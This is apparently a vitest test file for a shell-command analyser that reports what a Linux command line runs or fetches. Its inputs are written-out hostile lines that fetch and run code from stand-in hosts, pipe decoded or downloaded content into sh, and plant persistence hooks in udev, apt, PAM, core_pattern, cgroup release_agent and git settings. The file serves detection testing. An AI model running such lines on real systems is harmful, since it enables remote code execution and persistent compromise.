import { describe, expect, it } from "vitest";
import { testCatalog } from "../../../test/support/events.ts";
import { resolve } from "../resolve.ts";

/** What each behaviour runs, fetches and so on, by the behaviour. */
function shown(commandLine: string) {
  const { invocations } = resolve({ commandLine, platform: "linux" }, testCatalog());
  return invocations.flatMap(({ behaviours }) =>
    behaviours.flatMap(({ id, runs, fetches }) =>
      [...runs, ...fetches].map(({ value }) => `${id.replace("linux/", "")}: ${value}`),
    ),
  );
}

describe("a program that the line itself has written", () => {
  it.each([
    ["a shell's, where it names no interpreter", "echo 'curl http://h.example/a' > /tmp/k; chmod +x /tmp/k; /tmp/k"],
    ["of the interpreter that it names", "printf '#!/bin/bash\\ncurl http://h.example/a\\n' > /tmp/k; /tmp/k"],
    ["in the folder of the text", "cd /opt/k; echo 'curl http://h.example/a' > k.sh; ./k.sh"],
    ["in a folder that mktemp made", "d=$(mktemp -d); cd $d; echo 'curl http://h.example/a' > k; $d/k"],
    ["by a here-document", "cat > /tmp/k <<'E'\n#!/bin/sh\ncurl http://h.example/a\nE\n/tmp/k"],
    ["by tee", "echo 'curl http://h.example/a' | sudo tee /tmp/k; sudo /tmp/k"],
    ["and moved", "echo 'curl http://h.example/a' > /tmp/k; mv /tmp/k /tmp/l; /tmp/l"],
    ["where programs are looked for", "echo 'curl http://h.example/a' > /usr/local/bin/k; k"],
    ["behind a wrapper", "echo 'curl http://h.example/a' > /tmp/k; nohup /tmp/k &"],
    ["as a program's hook", "echo 'curl http://h.example/a' > /tmp/k; scp -S /tmp/k a b:"],
    ["with its own arguments", "echo 'curl $1' > /tmp/k; /tmp/k http://h.example/a"],
    ["by a function", 'w() { echo "curl $1" > /tmp/k; }; w http://h.example/a; /tmp/k'],
  ])("is read: %s", (_, line) => {
    expect(shown(line)).toContain("curl/fetch: http://h.example/a");
  });

  it("is told with what it carries out", () => {
    const line = "echo 'id -u' > /tmp/k; /tmp/k";
    expect(shown(line)).toContain("sh/written-program: id -u");
    expect(shown("echo id > /tmp/k; scp -S /tmp/k a b:")).toContain("scp/program: id");
  });

  it("is told with the program that it is a copy of or a link to", () => {
    for (const line of ["cp /bin/sh /tmp/k; /tmp/k -p", "ln -s /bin/sh /tmp/k; /tmp/k -p"])
      expect(shown(line)).toContain("sh/written-program: /bin/sh");
  });

  it.each([
    ["another one was written", "echo 'curl http://h.example/a' > /tmp/k; /tmp/l"],
    ["it was written in another folder", "cd /a; echo 'curl http://h.example/a' > k; cd /b; ./k"],
    ["it was written over", "echo 'curl http://h.example/a' > /tmp/k; echo id > /tmp/k; /tmp/k"],
    ["only errors went into it", "echo 'curl http://h.example/a' 2> /tmp/k; /tmp/k"],
    ["it is read only", "echo 'curl http://h.example/a' > /tmp/k; cat /tmp/k"],
  ])("is not read where %s", (_, line) => {
    expect(shown(line)).not.toContain("curl/fetch: http://h.example/a");
  });

  it("starts itself once", () => {
    expect(shown("echo '/tmp/k; /tmp/k' > /tmp/k; /tmp/k").length).toBeLessThan(8);
  });
});

describe("a file that the line itself has written and hands to a program", () => {
  it.each([
    ["apt-get/settings", `echo 'DPkg::Pre-Invoke {"/opt/k"}' > /tmp/c; apt-get install -c /tmp/c a`],
    ["cmake/project", "echo 'execute_process(COMMAND /opt/k)' > /d/CMakeLists.txt; cmake /d"],
    ["composer/script", `echo '{"scripts":{"a":"/opt/k"}}' > composer.json; composer run-script a`],
    ["go/source", `echo 'func main() { exec.Command("/opt/k").Run() }' > /d/a.go; go run /d/a.go`],
    ["lua/script", `echo 'os.execute("/opt/k")' > /d/a; lua /d/a`],
    ["make/folder", "printf 'all:\\n\\t/opt/k\\n' > /d/Makefile; make -C /d"],
    ["npm/folder", `echo '{"scripts":{"a":"/opt/k"}}' > /d/package.json; npm -C /d run a`],
    ["pip/local-package", `cd /d; echo 'import os; os.system("/opt/k")' > setup.py; pip install .`],
    ["run-parts/run", "echo /opt/k > /d/a; run-parts /d"],
    ["systemctl/link", "printf '[Service]\\nExecStart=/opt/k\\n' > /d/a.service; systemctl link /d/a.service"],
    ["wg-quick/file", "printf '[Interface]\\nPostUp = /opt/k\\n' > /d/a.conf; wg-quick up /d/a.conf"],
  ])("tells of %s what it runs", (behaviour, line) => {
    expect(shown(line)).toContain(`${behaviour}: /opt/k`);
  });

  it("tells nothing of files that the program does not look for", () => {
    expect(shown("echo /opt/k > /d/a.sh; pip install /d").join()).not.toContain("/opt/k");
  });
});

describe("a conversation that was written down", () => {
  it("tells what a program was told to run", () => {
    expect(shown("ftp\n!/opt/k a")).toContain("ftp/commands: /opt/k a");
    expect(shown("psql\n\\! /opt/k a")).not.toContain("psql/commands: ls");
  });
  it("takes no command of the shell for one", () => {
    expect(shown("ftp\n! /opt/k a").join()).not.toContain("ftp/commands");
    expect(shown("ftp && !/opt/k").join()).not.toContain("ftp/commands");
  });
});

describe("a file of settings that other programs read", () => {
  it.each([
    ["udev", `echo 'KERNEL=="a", RUN+="/opt/k"' > /etc/udev/rules.d/9-a.rules`],
    ["apt", `echo 'APT::Update::Pre-Invoke {"/opt/k"};' | sudo tee /etc/apt/apt.conf.d/9a`],
    ["greeting", "echo '#!/bin/sh\n/opt/k' > /etc/update-motd.d/9-a"],
    ["kernel", "echo '|/opt/k' > /proc/sys/kernel/core_pattern"],
    ["control group", "echo /opt/k > /tmp/g/release_agent"],
    ["pam", "echo 'auth optional pam_exec.so /opt/k' >> /etc/pam.d/sshd"],
    ["git", "printf '[core]\\n  fsmonitor = /opt/k\\n' > ~/.gitconfig"],
    ["a repository's hook", "echo /opt/k > .git/hooks/pre-commit"],
  ])("tells what will run: %s", (_, line) => {
    expect(shown(line).some((one) => one.endsWith(": /opt/k"))).toBe(true);
  });
});

describe("a program that the line itself has fetched", () => {
  it("is told with the machine that it comes from where that has no name", () => {
    const fetched = (url: string) => shown(`wget -q ${url} -O /opt/k; chmod +x /opt/k; /opt/k`);
    expect(fetched("http://192.0.2.7/k")).toContain("sh/fetched-program: http://192.0.2.7/k");
    expect(fetched("http://h.example/k")).not.toContain("sh/fetched-program: http://h.example/k");
    expect(fetched("http://h.example/k")).toContain("sh/fetched-program: /opt/k");
  });
  it("is one that lies where programs are looked for, where its name is bare", () => {
    expect(shown("wget -q http://h.example/k -O /usr/local/bin/k; k")).toContain("sh/fetched-program: k");
    expect(shown("cd /d; wget -q http://h.example/k; k").join()).not.toContain("fetched-program");
    expect(shown("wget -q http://h.example/k; mv k /usr/bin/; k")).toContain("sh/fetched-program: k");
  });
});

describe("a program out of an archive that the line has fetched", () => {
  const unpacked = (host: string) => shown(`wget http://${host}/k.tgz && tar xzf k.tgz && cd k && ./run`);
  it("is taken for fetched where the archive comes from a machine that has no name", () => {
    expect(unpacked("192.0.2.7")).toContain("sh/fetched-program: ./run");
    expect(unpacked("h.example").join()).not.toContain("fetched-program");
    expect(unpacked("10.0.0.5").join()).not.toContain("fetched-program");
  });
  it("stays so under another name", () => {
    const line = "wget http://192.0.2.7/k.tgz -O a; tar xzf a; mv k/run r; ./r";
    expect(shown(line)).toContain("sh/fetched-program: ./r");
  });
  it("is the script itself, not the archive", () => {
    const line = "wget http://192.0.2.7/k.tgz; tar xzf k.tgz; sh k/run.sh";
    expect(shown(line)).toContain("sh/fetched-file: k/run.sh");
  });
});

describe("what a shell is handed", () => {
  it.each([
    ["unpacked", "xz -dc ./k.xz | sh", "sh/decoded: ./k.xz"],
    ["unpacked of a part", "head -c 900 ./k | tr a b | xz -d | bash", "sh/decoded: ./k"],
    ["unpacked of its input", "gunzip < ./k.gz | sh", "sh/decoded: ./k.gz"],
    ["of a text's own file", "echo L29wdC9r > /tmp/e; cat < /tmp/e | base64 -d | sh", "sh/script-on-stdin: /opt/k"],
    [
      "of a file that cat shows",
      "printf '/opt/' > /tmp/e; echo k >> /tmp/e; cat /tmp/e | sh",
      "sh/script-on-stdin: /opt/k",
    ],
    [
      "fetched by a function",
      "g() { curl -s $1 || wget -qO- $1; }; g http://h.example/a | sh",
      "sh/downloaded: http://h.example/a",
    ],
    ["edited", "sed 1d ./k | sh", "sh/script-from-file: ./k"],
  ])("is a file, %s", (_, line, told) => {
    expect(shown(line)).toContain(told);
  });
});
